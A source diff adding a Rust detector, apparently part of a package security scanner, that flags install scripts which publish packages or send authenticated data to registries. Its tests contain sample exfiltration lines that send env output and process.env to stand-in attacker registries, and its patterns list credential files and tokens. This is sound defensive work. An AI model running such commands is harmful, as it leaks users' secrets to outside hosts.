@@ -0,0 +1,254 @@
+//! Detection of exfiltration through package registries
+//!
+//! Stolen data can leave a machine as a package: published as a new version,
+//! or sent in an authenticated request to a registry the attacker controls.
+//! Traffic to a registry looks like ordinary package tooling, so generic
+//! network detection gives it little weight. Install code has no reason to
+//! publish anything.
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+
+use super::{rules, Finding, FindingType, RiskLevel, ScanReason};
+
+/// Commands and APIs that publish a package
+static PUBLISHES: Lazy<Vec<Regex>> = Lazy::new(|| {
+    [
+        r#"\b(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b[^\n;&|'"`]*"#,
+        r#"\b(?:python3?\s+-m\s+)?twine\s+upload\b[^\n;&|'"`]*"#,
+        r#"\bpoetry\s+publish\b[^\n;&|'"`]*"#,
+        r#"\brequire\(\s*['"]libnpmpublish['"]\s*\)"#,
+    ]
+    .into_iter()
+    .map(|pattern| Regex::new(pattern).unwrap())
+    .collect()
+});
+
+/// Registry a publish command is pointed at
+static PUBLISH_TARGET: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"(?:--registry|--repository-url|--repository|-r)[=\s]+(?P<target>[^\s'`]+)")
+        .unwrap()
+});
+
+/// `registry` option passed to a publishing API
+static REGISTRY_OPTION: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r#"\bregistry['"]?\s*:\s*['"`](?P<target>[^'"`]+)"#).unwrap());
+
+/// URLs of registries or their upload endpoints
+static REGISTRY_URLS: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r#"https?://(?P<host>[^\s'"`/)]+)[^\s'"`)]*"#).unwrap());
+
+static REGISTRY_HINT: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"(?i)registry|npm|pypi|/legacy/?$").unwrap());
+
+/// Requests that send data rather than fetch it
+static WRITES: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r#"(?i)method\s*:\s*['"](?:PUT|POST)['"]|\brequests\.(?:put|post)\(|\.(?:put|post)\(|-X\s*(?:PUT|POST)\b"#,
+    )
+    .unwrap()
+});
+
+/// Credentials attached to a request
+static AUTHENTICATION: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r"(?i)\bauthorization\b|\bbearer\s|_authToken|\b(?:NPM_TOKEN|NODE_AUTH_TOKEN|TWINE_PASSWORD|PYPI_TOKEN)\b",
+    )
+    .unwrap()
+});
+
+/// Reads of data worth stealing
+static DATA_SOURCES: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r"\bprocess\.env\b|\bos\.environ\b|\bgetenv\(|\.npmrc\b|\.pypirc\b|\.ssh/|\.aws/credentials|\bfs\.readFile(?:Sync)?\(|\breadFileSync\(",
+    )
+    .unwrap()
+});
+
+/// A way a script sends something to a registry
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RegistryChannel {
+    /// Matched publish command or request URL
+    pub snippet: String,
+    /// Registry written to, `None` when a publish uses the configured default
+    pub target: Option<String>,
+}
+
+/// Publishing or authenticated registry writes found in a script
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RegistryExfiltration {
+    /// Publishes and registry requests, in script order
+    pub channels: Vec<RegistryChannel>,
+    /// Environment or credential reads that could feed them
+    pub data_sources: Vec<String>,
+}
+
+impl RegistryExfiltration {
+    /// Scan script content for publishing or authenticated registry writes
+    ///
+    /// A registry request only counts when it writes, carries credentials and
+    /// the script reads data that could be sent; publishing always counts.
+    pub fn detect(content: &str) -> Option<Self> {
+        let data_sources = DATA_SOURCES
+            .find_iter(content)
+            .map(|m| m.as_str().to_string())
+            .fold(Vec::new(), |mut unique, source| {
+                if !unique.contains(&source) {
+                    unique.push(source);
+                }
+                unique
+            });
+
+        let mut channels: Vec<(usize, RegistryChannel)> = PUBLISHES
+            .iter()
+            .flat_map(|regex| regex.find_iter(content))
+            .map(|publish| {
+                let snippet = publish.as_str().trim();
+                let target = PUBLISH_TARGET
+                    .captures(snippet)
+                    .or_else(|| {
+                        snippet
+                            .contains("libnpmpublish")
+                            .then(|| REGISTRY_OPTION.captures(content))
+                            .flatten()
+                    })
+                    .map(|captures| captures["target"].to_string());
+                (
+                    publish.start(),
+                    RegistryChannel {
+                        snippet: snippet.to_string(),
+                        target,
+                    },
+                )
+            })
+            .collect();
+
+        let sends_data = WRITES.is_match(content)
+            && AUTHENTICATION.is_match(content)
+            && !data_sources.is_empty();
+        if sends_data {
+            let published: Vec<String> = channels
+                .iter()
+                .map(|(_, channel)| channel.snippet.clone())
+                .collect();
+            channels.extend(
+                REGISTRY_URLS
+                    .captures_iter(content)
+                    .filter(|captures| REGISTRY_HINT.is_match(&captures[0]))
+                    .filter(|captures| {
+                        !published
+                            .iter()
+                            .any(|snippet| snippet.contains(&captures[0]))
+                    })
+                    .map(|captures| {
+                        let url = captures.get(0).unwrap();
+                        (
+                            url.start(),
+                            RegistryChannel {
+                                snippet: url.as_str().to_string(),
+                                target: Some(captures["host"].to_string()),
+                            },
+                        )
+                    }),
+            );
+        }
+        if channels.is_empty() {
+            return None;
+        }
+        channels.sort_by_key(|(offset, _)| *offset);
+
+        Some(Self {
+            channels: channels.into_iter().map(|(_, channel)| channel).collect(),
+            data_sources,
+        })
+    }
+
+    /// Registries written to, with `"default registry"` for untargeted publishes
+    pub fn targets(&self) -> Vec<String> {
+        self.channels
+            .iter()
+            .map(|channel| {
+                channel
+                    .target
+                    .clone()
+                    .unwrap_or_else(|| "default registry".to_string())
+            })
+            .fold(Vec::new(), |mut unique, target| {
+                if !unique.contains(&target) {
+                    unique.push(target);
+                }
+                unique
+            })
+    }
+
+    /// Report as a `RegistryExfiltration` finding
+    ///
+    /// Critical when the script also reads the environment or credentials,
+    /// high otherwise.
+    pub fn to_finding(&self, source: &str) -> Finding {
+        let severity = if self.data_sources.is_empty() {
+            RiskLevel::High
+        } else {
+            RiskLevel::Critical
+        };
+        let mut finding = Finding::new(
+            FindingType::RegistryExfiltration,
+            severity,
+            format!("{} sends data to a package registry", source),
+            format!(
+                "{} publishes a package or writes to a registry ({}); install code has no need to, and a publish or upload can carry stolen data out as package contents",
+                source,
+                self.targets().join(", ")
+            ),
+        )
+        .with_affected_component(source.to_string())
+        .with_scan_reason(ScanReason::MaliciousPatterns)
+        .with_rule_id(rules::REGISTRY_EXFILTRATION);
+        for channel in &self.channels {
+            finding = finding.with_evidence(format!("Channel: {}", channel.snippet));
+        }
+        for data in &self.data_sources {
+            finding = finding.with_evidence(format!("Reads: {}", data));
+        }
+        finding
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_publish_and_registry_requests() {
+        let shell = RegistryExfiltration::detect(
+            "env > data.txt && npm publish --registry https://npm.attacker.example/ --access public",
+        )
+        .unwrap();
+        assert_eq!(
+            shell.targets(),
+            ["https://npm.attacker.example/".to_string()]
+        );
+        assert_eq!(shell.to_finding("postinstall").severity, RiskLevel::High);
+
+        let request = RegistryExfiltration::detect(
+            r#"fetch('https://registry.attacker.example/stolen-data', {
+  method: 'PUT',
+  headers: { authorization: 'Bearer ' + token },
+  body: JSON.stringify(process.env),
+});"#,
+        )
+        .unwrap();
+        assert_eq!(request.targets(), ["registry.attacker.example".to_string()]);
+        assert_eq!(request.data_sources, ["process.env"]);
+        assert_eq!(request.to_finding("install").severity, RiskLevel::Critical);
+
+        // Reading from a registry is ordinary
+        for benign in [
+            "fetch('https://registry.npmjs.org/lodash').then(r => r.json())",
+            "const v = process.env.npm_package_version; https.get('https://registry.npmjs.org/x')",
+            "npm run build",
+        ] {
+            assert!(RegistryExfiltration::detect(benign).is_none(), "{benign}");
+        }
+    }
+}